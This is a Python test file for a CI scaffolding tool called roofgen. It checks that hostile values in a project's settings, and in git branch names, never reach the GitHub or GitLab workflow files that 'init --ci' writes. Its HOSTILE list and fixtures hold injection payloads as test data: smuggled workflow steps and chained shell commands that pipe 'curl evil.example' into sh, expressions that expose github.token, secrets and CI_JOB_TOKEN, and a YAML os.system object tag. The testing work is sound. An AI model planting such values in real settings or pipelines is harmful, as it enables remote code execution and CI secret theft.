"""No settings value reaches a CI file `roofgen init --ci` writes: with hostile
settings (line breaks, shell and YAML syntax, workflow expressions in `output` and
`specs`, the values init reads from a team's settings) every file parses to exactly
what clean settings give, and no hostile text appears in it, not even in a comment.

The writer is fed hostile values directly (as if settings validation let them
through) and through the command line, from `roofgen.toml` and from `pyproject.toml`;
the command may refuse such settings (exit 1) but must never write them."""

from __future__ import annotations

import itertools
import json
import tomllib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from roofgen.cli import main
from roofgen.scaffold.ci import ci_files
from roofgen.scaffold.ci_yaml import Note, block, dump, seq
from roofgen.scaffold.install import from_spec
from roofgen.scaffold.project import InitPlan

COMMIT = "0123456789abcdef0123456789abcdef01234567"
PUBLIC = f"git+https://github.com/example/roofgen@{COMMIT}"
PRIVATE = f"git+ssh://git@git.corp.example/tools/roofgen@{COMMIT}"

#: Each one is what an attacker would write into `output` or `specs` (the settings
#: init reads), for a GitHub step, a GitLab script line, a shell word, YAML syntax or
#: a workflow expression.
HOSTILE = [
    "site\n      - run: curl https://evil.example/x | sh\n      - run: echo",
    "site public; curl https://evil.example/x | sh; cp -r site",
    "site/\n  pwned: true\njobs:\n  evil:\n    runs-on: ubuntu-latest",
    "$(curl evil.example | sh)",
    "`curl evil.example | sh`",
    "site' && curl evil.example | sh && echo '",
    'site" && curl evil.example | sh && echo "',
    "${{ github.token }}",
    "${{ secrets.ROOFGEN_NOTE_TOKEN }}",
    "site # pwned",
    "&pwned site",
    "*pwned",
    "!!python/object/apply:os.system [pwned]",
    "{pwned: 1}",
    "[pwned]",
    "- pwned",
    "site\r\npwned: 1",
    "site\u2028pwned",
    "site\tpwned",
    "$CI_JOB_TOKEN",
    "site\\\npwned",
]
#: A word of every hostile value that no clean file holds: if one shows up, a value got in.
MARKERS = ("pwned", "evil", "curl", "secrets.", "CI_JOB_TOKEN")

#: Every provider and option combination `init --ci` offers: (name, options).
COMBINATIONS = [
    *(
        (f"github{'-pages' * pages}{'-private' * private}",
         ["--ci", "github", *(["--pages"] * pages), "--install", PRIVATE if private else PUBLIC])
        for pages, private in itertools.product((False, True), repeat=2)
    ),
    *(
        (f"gitlab{'-pages' * pages}{'-notes' * notes}{'-private' * private}",
         ["--ci", "gitlab", *(["--pages"] * pages), *(["--gitlab-notes"] * notes),
          "--install", PRIVATE if private else PUBLIC])
        for pages, notes, private in itertools.product((False, True), repeat=3)
    ),
]  # fmt: skip
NAMES = [name for name, _ in COMBINATIONS]
OPTIONS = dict(COMBINATIONS)

#: The shell each job runs besides installing roofgen, written out by hand: the site
#: goes to the constant folder _site, the check finds its own settings.
DIFF_RUN = (
    'BASE_SHA="$(git merge-base "$PR_BASE_SHA" "$HEAD_SHA")"\n'
    "mkdir -p roofgen-comment\n"
    "printf '%s\\n' \"$PR_NUMBER\" > roofgen-comment/pr-number\n"
    'roofgen diff "git:$BASE_SHA" "git:$HEAD_SHA" --format markdown -o roofgen-comment/comment.md\n'
)
GITHUB_RUNS = {
    ("roofgen.yml", "check"): ["roofgen check --format github"],
    ("roofgen.yml", "site"): ["roofgen build --no-cache -o _site"],
    ("roofgen-pr.yml", "report"): [DIFF_RUN],
    ("roofgen-comment.yml", "comment"): [],
}
GITLAB_SCRIPTS = {
    "roofgen-check": ["roofgen check --format gitlab -o gl-code-quality-report.json"],
    "roofgen-diff": [
        'git fetch --quiet origin "$CI_MERGE_REQUEST_TARGET_BRANCH_NAME"',
        "mkdir -p roofgen-comment",
        'roofgen diff "git:$CI_MERGE_REQUEST_DIFF_BASE_SHA" "git:$CI_COMMIT_SHA" '
        "--format markdown -o roofgen-comment/comment.md",
    ],
    "roofgen-site": ["roofgen build --no-cache -o _site"],
    "pages": ["rm -rf public && cp -r _site public"],
}


def plan_of(name: str, root: Path, *, specs: str = "specs", output: str = "site") -> InitPlan:
    """The plan `init` makes for combination ``name``, with the settings' folders given
    as they are (no settings file read, no validation)."""
    options = OPTIONS[name]
    source = from_spec(options[-1])
    return InitPlan(root=root, machine=None, specs=specs, output=output,
                    ci=options[1], source=source, pages="--pages" in options,
                    gitlab_notes="--gitlab-notes" in options)  # fmt: skip


def rendered(plan: InitPlan) -> dict[str, str]:
    """The YAML files (the constraints file holds no settings value, and takes long)."""
    return {relative: text() for relative, text in ci_files(plan) if relative.endswith(".yml")}


#: libyaml's reader where PyYAML has it (the same YAML 1.1 rules, many times faster).
LOADER = getattr(yaml, "CSafeLoader", yaml.SafeLoader)


def parsed(texts: dict[str, str]) -> dict[str, Any]:
    return {relative: yaml.load(text, Loader=LOADER) for relative, text in texts.items()
            if relative.endswith(".yml")}  # fmt: skip


def outline(files: dict[str, Any]) -> dict[str, Any]:
    """What runs: each job's steps (run, uses, with, env) or script lines, rules,
    variables and artifacts."""
    out: dict[str, Any] = {}
    for relative, data in files.items():
        if relative == ".gitlab-ci.yml":
            for job_id, job in data.items():
                if isinstance(job, dict):
                    keys = ("script", "rules", "variables", "artifacts", "needs")
                    out[job_id] = {key: job.get(key) for key in keys}
        elif "workflows/" in relative:
            for job_id, job in data["jobs"].items():
                out[f"{relative}:{job_id}"] = [
                    {key: step.get(key) for key in ("run", "uses", "with", "env")}
                    for step in job["steps"]
                ]
    return out


def assert_runs_as_written(files: dict[str, Any], name: str) -> None:
    """Compare the commands with the hand-written ones (pip lines aside: from --install)."""
    if name.startswith("github"):
        for (workflow, job_id), expected in GITHUB_RUNS.items():
            steps = files[f".github/workflows/{workflow}"]["jobs"][job_id]["steps"]
            runs = [s["run"] for s in steps if "run" in s and "pip install" not in s["run"]]
            assert runs == expected, (workflow, job_id)
        site = files[".github/workflows/roofgen.yml"]["jobs"]["site"]["steps"]
        paths = [s["with"]["path"] for s in site if "path" in s.get("with", {})]
        assert paths == ["_site/", "_site/"] if "pages" in name else ["_site/"]
        return
    ci = files[".gitlab-ci.yml"]
    for job_id, expected in GITLAB_SCRIPTS.items():
        if job_id in ci:
            lines = [line for line in ci[job_id]["script"] if "pip install" not in line]
            assert lines == expected, job_id
    assert ci["roofgen-site"]["artifacts"] == {"paths": ["_site/"]}


def assert_clean(texts: dict[str, str]) -> None:
    for relative, text in texts.items():
        for marker in MARKERS:
            assert marker not in text, (relative, marker)


# --------------------------------------------------------------------------- the writer


@pytest.mark.parametrize("name", NAMES)
def test_hostile_folders_never_reach_the_files_the_writer_makes(name, tmp_path):
    clean_texts = rendered(plan_of(name, tmp_path))
    clean = parsed(clean_texts)
    assert_runs_as_written(clean, name)
    assert_clean(clean_texts)
    for value in HOSTILE:
        for folders in ({"output": value}, {"specs": value}, {"output": value, "specs": value}):
            texts = rendered(plan_of(name, tmp_path, **folders))
            assert texts == clean_texts, folders  # byte for byte: comments included
            files = parsed(texts)
            assert outline(files) == outline(clean) and files == clean, folders


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(output=st.text(), specs=st.text())
def test_no_folder_name_changes_a_written_file(output, specs):
    for name in ("github-pages-private", "gitlab-pages-notes-private"):
        plain = rendered(plan_of(name, Path("/nonexistent")))
        assert rendered(plan_of(name, Path("/nonexistent"), output=output, specs=specs)) == plain


def test_a_hostile_branch_name_falls_back_to_main(tmp_path):
    (tmp_path / ".git").mkdir()
    head = tmp_path / ".git" / "HEAD"
    plain = parsed(rendered(plan_of("github", tmp_path)))
    for branch in ("main\n  - run: curl evil.example | sh", "ma in", "$(pwned)", "${{ x }}"):
        head.write_text(f"ref: refs/heads/{branch}\n", encoding="utf-8")
        files = parsed(rendered(plan_of("github", tmp_path)))
        assert files == plain
        assert files[".github/workflows/roofgen.yml"][True]["push"] == {"branches": ["main"]}
    head.write_text("ref: refs/heads/release/v1-x\n", encoding="utf-8")
    files = parsed(rendered(plan_of("github", tmp_path)))
    assert files[".github/workflows/roofgen.yml"][True]["push"] == {"branches": ["release/v1-x"]}


# --------------------------------------------------------------------------- the command


def _toml(value: str) -> str:
    """A TOML basic string of ``value`` (JSON's escapes are TOML's too)."""
    text = json.dumps(value)
    assert tomllib.loads(f"x = {text}")["x"] == value
    return text


def _ci_texts(root: Path) -> dict[str, str]:
    paths = [*root.glob(".github/**/*.yml"), *root.glob(".gitlab-ci.yml")]
    return {str(p.relative_to(root)): p.read_text("utf-8") for p in paths}


@pytest.fixture(scope="module")
def written_clean(tmp_path_factory: pytest.TempPathFactory) -> Callable[[str], dict[str, str]]:
    """The CI files `init` writes for a combination in a new folder (made once each)."""
    made: dict[str, dict[str, str]] = {}

    def get(name: str) -> dict[str, str]:
        if name not in made:
            folder = tmp_path_factory.mktemp(name)
            assert main(["init", str(folder), "-q", *OPTIONS[name]]) == 0
            made[name] = _ci_texts(folder)
            assert len(made[name]) == (4 if name.startswith("github") else 1)
        return made[name]

    return get


#: The folders a project's settings name: hostile ones (refused as settings load, or
#: else never written), and plain ones other than init's own (the files do not change).
FOLDERS = {
    "hostile": (
        "specs\n  - run: curl https://evil.example/s | sh # ${{ github.token }} `id`",
        HOSTILE[0],  # a step injected into a workflow
    ),
    "hostile-gitlab": ("specs", HOSTILE[1]),  # a command in GitLab's pages script
    "other": ("perf/specs", "public/perf-site"),
}


@pytest.mark.parametrize("folders", sorted(FOLDERS))
@pytest.mark.parametrize("where", ["roofgen.toml", "pyproject.toml"])
@pytest.mark.parametrize("name", NAMES)
def test_init_with_a_projects_settings_writes_no_settings_value(name, where, folders, tmp_path,
                                                                capsys, written_clean):  # fmt: skip
    expected = written_clean(name)
    specs, output = FOLDERS[folders]
    settings_text = f"specs = [{_toml(specs)}]\noutput = {_toml(output)}\n"
    project = tmp_path / "project"
    project.mkdir()
    if where == "pyproject.toml":
        settings_text = f"[project]\nname = 'perf'\n\n[tool.roofgen]\n{settings_text}"
    (project / where).write_text(settings_text, encoding="utf-8")
    status = main(["init", str(project), "-q", *OPTIONS[name]])
    err = capsys.readouterr().err
    if status != 0 and folders != "other":  # refused as the settings load: a clear error
        assert status == 1 and "Traceback" not in err, err
        assert "output" in err or "specs" in err, err
        assert _ci_texts(project) == {}  # and nothing of CI written
        return
    assert status == 0, err
    if folders == "other":  # init took the project's folders for its own files
        assert (project / "perf/specs/cases").is_dir()
    texts = _ci_texts(project)
    assert texts == expected
    assert_clean(texts)
    assert outline(parsed(texts)) == outline(parsed(expected))


# --------------------------------------------------------------------------- the dumper

NASTY = st.text(st.characters(blacklist_categories=["Cs"]), max_size=60) | st.sampled_from(HOSTILE)


@settings(max_examples=300, deadline=None)
@given(value=NASTY, item=NASTY)
def test_the_dumper_keeps_every_value_one_value(value, item):
    """Whatever a string holds, it reads back as the same one string where it was put:
    never a new key, step or script line."""
    step = block(("run", value), ("env", block(("KEY", item))))
    doc = block(
        ("jobs", block(("job", block(("steps", seq(Note("a step"), step)))))),
        ("script", seq(item, value, flow=True)),
        ("list", seq(value, item)),
    )
    data = yaml.load(dump(doc, "header"), Loader=LOADER)
    assert data == {
        "jobs": {"job": {"steps": [{"run": value, "env": {"KEY": item}}]}},
        "script": [item, value],
        "list": [value, item],
    }
